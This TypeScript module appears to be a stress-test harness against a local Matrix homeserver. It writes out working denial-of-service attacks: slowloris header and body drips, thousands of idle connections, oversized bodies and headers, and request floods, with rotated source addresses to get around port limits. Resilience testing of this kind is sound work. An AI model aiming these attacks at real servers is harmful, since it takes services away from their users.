import { request } from "node:http";
import { connect, type Socket } from "node:net";

/** Whom an attack is against, and whose session it has. */
export interface Victim {
  readonly port: number;
  readonly token: string;
  readonly roomId: string;
}

/** Begins; answers how it is ended. What it was answered is counted by status. */
export type Attack = (victim: Victim, tally: Tally) => () => void;

export class Tally {
  readonly counts: Record<string, number> = {};

  add(what: string | number): void {
    this.counts[what] = (this.counts[what] ?? 0) + 1;
  }
}

const DRIP_MS = 1_000;
const HOLDERS = 500;
const IDLE = 10_000;
/** New ones in each of these steps, until all are there. */
const OPENED_AT_ONCE = 200;
const STEP_MS = 20;

const HEAD = "Host: x\r\nUser-Agent: abuse\r\n";
const bearer = ({ token }: Victim) => `Authorization: Bearer ${token}\r\n`;

/** What 1,000 requests a second by one client may be. */
const FLOOD_PER_SECOND = 1_000;

/** Holds so many connections open, each opened anew when the server cuts it. */
function hold(
  { port }: Victim,
  tally: Tally,
  count: number,
  begin: (socket: Socket) => void,
  drip?: string,
): () => void {
  const sockets = new Set<Socket>();
  let isOver = false;
  const open = () => {
    // Each source address has some 28,000 ports of its own.
    const localAddress = `127.0.0.${2 + (sockets.size % 8)}`;
    const socket = connect({ port, host: "127.0.0.1", localAddress });
    sockets.add(socket);
    socket.on("connect", () => begin(socket));
    socket.on("error", () => undefined);
    socket.on("data", (data) => tally.add(data.toString("latin1", 9, 12)));
    socket.on("close", () => {
      sockets.delete(socket);
      tally.add("cut");
    });
  };
  const opening = setInterval(() => {
    for (let i = 0; i < OPENED_AT_ONCE && sockets.size < count; i++) open();
  }, STEP_MS);
  const dripping = setInterval(() => {
    if (drip !== undefined) for (const socket of sockets) socket.write(drip);
  }, DRIP_MS);
  return () => {
    if (isOver) return;
    isOver = true;
    clearInterval(opening);
    clearInterval(dripping);
    for (const socket of sockets) socket.destroy();
  };
}

/** Asks at a fixed rate, whether it is answered or not. */
function flood(
  victim: Victim,
  tally: Tally,
  perSecond: number,
  next: (turn: number) => {
    method: string;
    path: string;
    headers?: Record<string, string>;
    body?: string | Buffer;
  },
): () => void {
  const begun = performance.now();
  let turn = 0;
  const timer = setInterval(() => {
    const due = ((performance.now() - begun) * perSecond) / 1_000;
    for (; turn < due; turn++) {
      const { method, path, headers = {}, body } = next(turn);
      const asked = request(
        {
          port: victim.port,
          host: "127.0.0.1",
          method,
          path,
          agent: false,
          headers: { authorization: `Bearer ${victim.token}`, ...headers },
        },
        (answer) => {
          tally.add(answer.statusCode ?? 0);
          answer.resume();
        },
      );
      asked.on("error", () => tally.add("cut"));
      asked.end(body);
    }
  }, 5);
  return () => clearInterval(timer);
}

const large = Buffer.alloc(4 * 1024 * 1024, " ");

/** By the name that stands in the report. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  "500 clients that drip headers": (victim, tally) =>
    hold(
      victim,
      tally,
      HOLDERS,
      (socket) => socket.write(`GET / HTTP/1.1\r\n${HEAD}X-A: `),
      "a",
    ),
  "500 clients that drip bodies": (victim, tally) =>
    hold(
      victim,
      tally,
      HOLDERS,
      (socket) =>
        socket.write(
          `PUT /_matrix/client/v3/rooms/${encodeURIComponent(victim.roomId)}/send/m.x/1 HTTP/1.1\r\n` +
            `${HEAD}${bearer(victim)}Content-Length: 10000\r\n\r\n{`,
        ),
      " ",
    ),
  "10,000 idle connections": (victim, tally) =>
    hold(victim, tally, IDLE, () => undefined),
  "10,000 idle connections after an answer": (victim, tally) =>
    hold(victim, tally, IDLE, (socket) =>
      socket.write(`GET /_matrix/client/versions HTTP/1.1\r\n${HEAD}\r\n`),
    ),
  "50 bodies of 4 MiB a second": (victim, tally) =>
    flood(victim, tally, 50, () => ({
      method: "PUT",
      path: `/_matrix/client/v3/rooms/${encodeURIComponent(victim.roomId)}/send/m.x/1`,
      headers: { "transfer-encoding": "chunked" },
      body: large,
    })),
  "500 headers of 20 KiB a second": (victim, tally) =>
    flood(victim, tally, 500, () => ({
      method: "GET",
      path: "/_matrix/client/versions",
      headers: { "x-large": "x".repeat(20 * 1024) },
    })),
  "1,000 sends a second by one client": (victim, tally) =>
    flood(victim, tally, FLOOD_PER_SECOND, (turn) => ({
      method: "PUT",
      path: `/_matrix/client/v3/rooms/${encodeURIComponent(victim.roomId)}/send/m.abuse/${turn}`,
      body: '{"a":1}',
    })),
  "1,000 first syncs a second by one client": (victim, tally) =>
    flood(victim, tally, FLOOD_PER_SECOND, () => ({
      method: "GET",
      path: "/_matrix/client/v3/sync?timeout=0",
    })),
  "1,000 pages of history a second by one client": (victim, tally) =>
    flood(victim, tally, FLOOD_PER_SECOND, () => ({
      method: "GET",
      path: `/_matrix/client/v3/rooms/${encodeURIComponent(victim.roomId)}/messages?dir=b&limit=100`,
    })),
  "1,000 unknown tokens a second": (victim, tally) =>
    flood(victim, tally, FLOOD_PER_SECOND, (turn) => ({
      method: "GET",
      path: "/_matrix/client/v3/account/whoami",
      headers: { authorization: `Bearer unknown${turn}` },
    })),
};
